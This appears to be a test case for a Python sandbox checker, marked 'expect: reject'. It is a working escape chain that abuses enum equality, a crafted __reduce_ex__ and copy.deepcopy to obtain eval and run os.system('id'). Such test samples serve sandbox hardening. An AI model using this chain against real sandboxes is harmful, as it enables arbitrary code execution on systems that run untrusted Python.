# expect: reject class
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# Mechanism: a comparison hands the enum class to the other operand: Base == obj
#   falls back to obj.__eq__(Base) (a class's own __eq__ answers NotImplemented),
#   and Base in obj is obj.__contains__(Base); either method then holds the
#   member-less enum class, a class factory.
# Goal reached: eval obtained as a value; ran a process (id).
import copy
import enum
import typing

made = []


def red(self, proto):
    return (typing.List.copy_with, (("eval",),), {"_name": "__builtins__"})


class Catch:
    def __eq__(self, other):
        made.append(other("E", {"X": 1, "__deepcopy__": None, "__reduce_ex__": red}))
        return False

    __hash__ = None


class Base(enum.Enum):
    pass


print(Base == Catch())
ev = copy.deepcopy(copy.deepcopy(made[0].X))
ev("__import__('os').system('id')")
